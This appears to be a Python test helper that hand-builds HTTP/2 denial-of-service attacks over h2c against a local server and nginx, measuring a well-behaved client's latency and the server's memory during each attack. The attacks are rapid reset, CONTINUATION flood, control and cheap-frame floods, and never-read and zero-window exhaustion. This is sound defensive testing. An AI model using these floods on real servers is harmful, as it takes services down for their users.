"""HTTP/2 attacks over h2c, frames written by hand, and a well-behaved client to measure while one runs: shared
by Tests/Python/test_http2_abuse.py (against Faultline, with assertions) and scripts/h2-abuse-compare.py (the same
attacks against Faultline and nginx, side by side). Each attack takes a port and returns what the server sent back:
`frames` and the first GOAWAY (`goaway`: last stream id, error name), how many writes went in (`sent`)."""

import json
import re
import socket
import statistics
import subprocess
import sys
import threading
import time

from test_http2 import PREFACE, ERROR_CODES, frames

ROUTES = {"name": "abuse-h2", "routes": [
    {"id": "ok", "match": {"path": "/ok"}, "responses": [{"text": "still here"}]},
    {"id": "slow", "match": {"path": "/slow"}, "responses": [{"delayMs": 60000, "text": "late"}]},
], "resources": [{"id": "big", "path": "/big", "generated": {"size": "64MiB"}}]}

ATTACK_S = 2.0


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(**values):
    ids = {"INITIAL_WINDOW_SIZE": 0x4, "MAX_FRAME_SIZE": 0x5}
    return frame(0x4, 0, 0, b"".join(ids[k].to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in values.items()))


def get_block(path):
    """HPACK: :method GET, :scheme http, :path literal, :authority literal "x"."""
    return bytes([0x82, 0x86, 0x44, len(path)]) + path + bytes([0x41, 0x01]) + b"x"


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as status:
        return int(re.search(r"VmRSS:\s+(\d+)", status.read()).group(1)) / 1024


GOOD_CLIENT = r"""
import json, socket, sys, threading, time
port, latencies, errors, done = int(sys.argv[1]), [], [0], threading.Event()
threading.Thread(target=lambda: (sys.stdin.readline(), done.set()), daemon=True).start()
sock = None
while not done.is_set():
    started = time.monotonic()
    try:
        if sock is None:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        sock.sendall(b"GET /ok HTTP/1.1\r\nHost: x\r\n\r\n")
        received = b""
        while not received.endswith(b"still here"):
            chunk = sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed")
            received += chunk
        latencies.append((time.monotonic() - started) * 1000)
    except OSError:
        errors[0] += 1
        sock = None
    time.sleep(0.01)
print(json.dumps({"latencies": latencies, "errors": errors[0]}))
"""


class GoodClient:
    """HTTP/1.1 keep-alive GET /ok every 10 ms until stopped, in a process of its own (in this one, the attack's
    frame building would hold the GIL and count as the server's latency); latencies in ms, errors counted."""

    def __init__(self, port):
        self.process = subprocess.Popen([sys.executable, "-c", GOOD_CLIENT, str(port)], stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, text=True)
        self.latencies, self.errors = [], 0

    def stop(self):
        out, _ = self.process.communicate("stop\n", timeout=30)
        result = json.loads(out)
        self.latencies, self.errors = result["latencies"], result["errors"]

    def p99(self):
        ordered = sorted(self.latencies)
        return ordered[max(0, int(len(ordered) * 0.99) - 1)]


class Attack:
    """One attacking connection: sends with `send(sock)` for up to ATTACK_S while a reader thread drains (or,
    with read=False, nothing is ever read). Collects the frames the server sent."""

    def __init__(self, port, read=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.read, self.chunks, self.closed, self.stop = read, [], False, threading.Event()
        self.reader = threading.Thread(target=self._drain, daemon=True)
        if read:
            self.reader.start()

    def _drain(self):
        self.sock.settimeout(0.1)
        while not self.stop.is_set():
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.chunks.append(chunk)

    def run(self, send):
        deadline = time.monotonic() + ATTACK_S
        sent = 0
        try:
            while time.monotonic() < deadline:
                if send(self.sock) is False:
                    break
                sent += 1
        except OSError:
            self.closed = True
        return sent

    def finish(self, wait_close=True):
        """Waits up to 2 s for the server to close (a reading attack that it ends), then closes; the frames
        received."""
        if self.read:
            deadline = time.monotonic() + (2 if wait_close else 0.2)
            while not self.closed and time.monotonic() < deadline:
                time.sleep(0.02)
            self.stop.set()
            self.reader.join()
        self.sock.close()
        return frames(b"".join(self.chunks))


def goaway_of(received):
    goaways = [payload for kind, _, _, payload in received if kind == 0x7]
    if not goaways:
        return None
    return int.from_bytes(goaways[0][:4], "big") & 0x7FFFFFFF, ERROR_CODES.get(int.from_bytes(goaways[0][4:8], "big"))


def rapid_reset(port, connections=10, path=b"/slow"):
    """HEADERS then RST_STREAM CANCEL, 100 pairs per write, on `connections` connections one after another."""
    goaways = []
    for _ in range(connections):
        connection = Attack(port)
        connection.sock.sendall(PREFACE + settings())
        stream = [1]

        def burst(sock):
            batch = b""
            for _ in range(100):
                batch += frame(0x1, 0x5, stream[0], get_block(path)) + frame(0x3, 0, stream[0], (8).to_bytes(4, "big"))
                stream[0] += 2
            sock.sendall(batch)

        connection.run(burst)
        goaways.append(goaway_of(connection.finish()))
    return {"goaways": goaways, "goaway": goaways[0]}


def continuation_flood(port):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    connection = Attack(port)
    connection.sock.sendall(PREFACE + settings() + frame(0x1, 0x1, 1, get_block(b"/ok")))
    literal = b"\x00\x05x-pad\x05vvvvv"
    sent = connection.run(lambda sock: sock.sendall(frame(0x9, 0, 1, literal * 100) * 100))
    received = connection.finish()
    return {"sent": sent, "frames": received, "goaway": goaway_of(received)}


def control_flood(port, kind, read):
    """PINGs or SETTINGS, 1,000 a write, read or never read."""
    one = frame(0x6, 0, 0, b"12345678") if kind == "ping" else frame(0x4, 0, 0, b"\x00\x03\x00\x00\x00\x64")
    connection = Attack(port, read=read)
    connection.sock.sendall(PREFACE + settings())
    sent = connection.run(lambda sock: sock.sendall(one * 1000))
    received = connection.finish()
    return {"sent": sent, "frames": received, "goaway": goaway_of(received), "closed": connection.closed}


def cheap_flood(port, flood):
    """Valid frames that ask for no work, 1,000 a write: empty DATA on an open upload, WINDOW_UPDATE by 1 on the
    connection, PRIORITY for idle streams."""
    post = bytes([0x83, 0x86, 0x44, 0x03]) + b"/ok" + bytes([0x41, 0x01]) + b"x"
    streams = [1]

    def send(sock):
        if flood == "empty-data":
            sock.sendall(frame(0x0, 0, 1) * 1000)
        elif flood == "window-update":
            sock.sendall(frame(0x8, 0, 0, (1).to_bytes(4, "big")) * 1000)
        else:
            batch = b""
            for _ in range(1000):
                batch += frame(0x2, 0, streams[0], (streams[0] + 2).to_bytes(4, "big") + b"\x10")
                streams[0] += 2
            sock.sendall(batch)

    connection = Attack(port)
    connection.sock.sendall(PREFACE + settings() + (frame(0x1, 0x4, 1, post) if flood == "empty-data" else b""))
    sent = connection.run(send)
    received = connection.finish(wait_close=False)
    return {"sent": sent, "frames": received, "goaway": goaway_of(received), "closed": connection.closed}


def never_reads(port, path=b"/big", streams=100):
    """A window of 2^31 − 1 and `streams` downloads, never read."""
    connection = Attack(port, read=False)
    connection.sock.sendall(PREFACE + settings(INITIAL_WINDOW_SIZE=2**31 - 1)
                            + frame(0x8, 0, 0, (2**31 - 1 - 65535).to_bytes(4, "big"))
                            + b"".join(frame(0x1, 0x5, 2 * i + 1, get_block(path)) for i in range(streams)))
    time.sleep(ATTACK_S)
    connection.finish()
    return {"goaway": None}


def zero_window(port, path=b"/big", streams=100):
    """SETTINGS_INITIAL_WINDOW_SIZE 0 and `streams` downloads: no DATA can go."""
    connection = Attack(port)
    connection.sock.sendall(PREFACE + settings(INITIAL_WINDOW_SIZE=0)
                            + b"".join(frame(0x1, 0x5, 2 * i + 1, get_block(path)) for i in range(streams)))
    time.sleep(ATTACK_S)
    received = connection.finish(wait_close=False)
    return {"frames": received, "goaway": goaway_of(received)}


ATTACKS = {
    "rapid reset (10 connections)": rapid_reset,
    "CONTINUATION flood": continuation_flood,
    "PING flood, unread": lambda port: control_flood(port, "ping", read=False),
    "SETTINGS flood, unread": lambda port: control_flood(port, "settings", read=False),
    "PING flood, read": lambda port: control_flood(port, "ping", read=True),
    "empty DATA flood": lambda port: cheap_flood(port, "empty-data"),
    "WINDOW_UPDATE flood": lambda port: cheap_flood(port, "window-update"),
    "PRIORITY flood": lambda port: cheap_flood(port, "priority"),
    "100 × 64 MiB, never read": never_reads,
    "zero window, 100 streams": zero_window,
}


def measure(attack, port, good_port, pids):
    """Runs `attack(port)` while a good client GETs /ok on `good_port` and the RSS of `pids` (summed) is sampled:
    {"result", "good": GoodClient (stopped), "rss_base", "rss_peak"} in MB."""
    good = GoodClient(good_port)
    time.sleep(0.3)
    total = lambda: sum(rss_mb(pid) for pid in pids)
    baseline, peak, sampling = total(), [0.0], threading.Event()

    def sample():
        while not sampling.is_set():
            peak[0] = max(peak[0], total())
            time.sleep(0.05)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        result = attack(port)
    finally:
        time.sleep(0.3)
        good.stop()
        sampling.set()
        sampler.join()
    return {"result": result, "good": good, "rss_base": baseline, "rss_peak": max(peak[0], baseline)}


P99_BOUND_MS = 60.0
RSS_GROWTH_BOUND_MB = 48


def assert_unharmed(measured):
    """The good client was served throughout the attack with no error and a p99 under P99_BOUND_MS, and the
    server's RSS grew by at most RSS_GROWTH_BOUND_MB."""
    good = measured["good"]
    print(f"good client: {describe(good)}; RSS {measured['rss_base']:.0f} → peak {measured['rss_peak']:.0f} MB")
    assert good.errors == 0
    assert len(good.latencies) >= 20, "the good client was served throughout"
    assert good.p99() <= P99_BOUND_MS, f"p99 {good.p99():.1f} ms during the attack"
    assert measured["rss_peak"] - measured["rss_base"] <= RSS_GROWTH_BOUND_MB, measured


def describe(good):
    return (f"{len(good.latencies)} requests, p50 {statistics.median(good.latencies):.2f} ms, p99 {good.p99():.2f} ms, "
            f"max {max(good.latencies):.1f} ms, {good.errors} errors")
